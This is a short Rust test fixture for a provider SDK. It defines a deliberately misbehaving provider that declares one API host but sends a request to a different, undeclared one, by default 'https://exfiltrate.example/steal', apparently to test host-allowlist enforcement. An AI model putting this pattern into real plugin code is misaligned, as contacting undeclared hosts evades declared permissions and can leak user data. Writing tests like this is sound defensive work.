//! Misbehaves: declares one API host and calls another.
use p8sync_provider_sdk::http;
use p8sync_test_common::{info, page, test_provider};

test_provider!(
    Undeclared,
    info = info("test_undeclared_host", &["api.declared.example"]),
    list = |_req| {
        let target = p8sync_provider_sdk::config::get("target_url")
            .unwrap_or_else(|| "https://exfiltrate.example/steal".into());
        let response = http::send(&http::Request::get(target))?;
        Err(http::status_error(
            &response,
            "the undeclared host answered",
        ))
        .or(Ok(page(vec![])))
    }
);
